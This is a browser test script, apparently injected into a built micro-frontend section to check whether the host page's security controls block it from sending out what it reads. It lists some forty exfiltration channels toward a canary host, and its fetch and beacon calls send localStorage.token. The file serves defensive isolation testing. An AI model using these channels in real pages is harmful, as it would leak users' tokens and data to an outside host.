// Runs in the browser at the end of a built section's entry, where `addHostility` in hostileSection.ts puts it: what a section
// could try in order to send out what it reads on the page. Each way names itself in the path that it requests.
/* global CONTAINER, CANARY, CANARY_WS, STUN, OWN_SCRIPT */

const { init, get } = window[CONTAINER];
const to = (way) => `${CANARY}/${encodeURIComponent(way)}`;
const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const link = (rel, way, more) =>
  document.head.appendChild(Object.assign(document.createElement('link'), { rel, href: to(way), ...more }));
const markup = (html) => document.body.insertAdjacentHTML('beforeend', html);
const submit = (way, more) => add('form', { action: to(way), method: 'post', ...more }).submit();

const ways = {
  'an image': () => add('img', { src: to('an image') }),
  'an image in SVG': () => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to('an image in SVG'));
    document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(image);
  },
  'a background image': () => {
    document.body.style.backgroundImage = `url("${to('a background image')}")`;
  },
  'an inline style sheet': () => add('style', { textContent: `@import "${to('an inline style sheet')}";` }),
  'a style sheet': () => link('stylesheet', 'a style sheet'),
  'a font': () => new FontFace('spy', `url("${to('a font')}")`).load(),
  'a prefetch': () => link('prefetch', 'a prefetch'),
  'a preload': () => link('preload', 'a preload', { as: 'image' }),
  'a module preload': () => link('modulepreload', 'a module preload'),
  'a manifest': () => link('manifest', 'a manifest'),
  'an icon': () => link('icon', 'an icon'),
  'a video': () => add('video', { src: to('a video'), autoplay: true }),
  'an object': () => add('object', { data: to('an object') }),
  'an embed': () => add('embed', { src: to('an embed') }),
  'a frame': () => add('iframe', { src: to('a frame') }),
  'a frame of its own': () => add('iframe', { srcdoc: `<img src="${to('a frame of its own')}">` }),
  'a portal of markup': () => markup(`<img src="${to('a portal of markup')}">`),
  'speculation rules': () =>
    add('script', {
      type: 'speculationrules',
      text: JSON.stringify({ prefetch: [{ urls: [to('speculation rules')] }] }),
    }),
  'a script': () => add('script', { src: to('a script') }),
  'an import': () => import(/* webpackIgnore: true */ to('an import')),
  fetch: () => fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: localStorage.token }),
  'a request that outlives the page': () =>
    fetch(to('a request that outlives the page'), { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open('GET', to('XMLHttpRequest'));
    request.send();
  },
  'a beacon': () => navigator.sendBeacon(to('a beacon'), localStorage.token),
  'an event source': () => new EventSource(to('an event source')),
  'a WebSocket': () => new WebSocket(`${CANARY_WS}/a WebSocket`),
  'a WebTransport': () => new WebTransport(`${CANARY.replace('http:', 'https:')}/a WebTransport`).ready,
  'a ping': () => {
    const anchor = add('a', { href: '#content', ping: to('a ping') });
    anchor.click();
  },
  'a worker': () => {
    const worker = new Worker(OWN_SCRIPT);
    return new Promise((resolve, reject) => {
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error('refused'));
    });
  },
  'a shared worker': () =>
    new Promise((_, reject) => {
      new SharedWorker(OWN_SCRIPT).onerror = () => reject(new Error('refused'));
    }),
  'a service worker': () => navigator.serviceWorker.register(OWN_SCRIPT),
  'a form': () => submit('a form'),
  'a form in a new window': () => submit('a form in a new window', { target: '_blank' }),
  'a preconnect': () => link('preconnect', 'a preconnect'),
  WebRTC: async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: STUN }] });
    connection.createDataChannel('spy');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'a new window': () => {
    if (!open(to('a new window'))) throw new Error('refused');
  },
  'a link to a new window': () =>
    add('a', { href: to('a link to a new window'), target: '_blank', rel: 'opener' }).click(),
  'another page': () => {
    location.href = to('another page');
  },
  'a meta refresh': () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${to('a meta refresh')}`;
    document.head.append(meta);
  },
};

/** Tries the ways that a journey asks for and notes what the page itself noticed. */
window.addEventListener('hostile:try', ({ detail }) => {
  const noticed = {};
  window.hostileNoticed = noticed;
  const waiting = detail.map(async (way) => {
    try {
      await ways[way]();
      noticed[way] ??= 'nothing';
    } catch (error) {
      noticed[way] = error.name;
    }
  });
  Promise.race([Promise.all(waiting), new Promise((later) => setTimeout(later, 4000))]).then(() => {
    document.documentElement.dataset.hostile = 'tried';
  });
});

window[CONTAINER] = {
  init,
  async get(expose) {
    const module = await get(expose);
    return () => {
      document.documentElement.dataset.hostile = 'ready';
      return module();
    };
  },
};
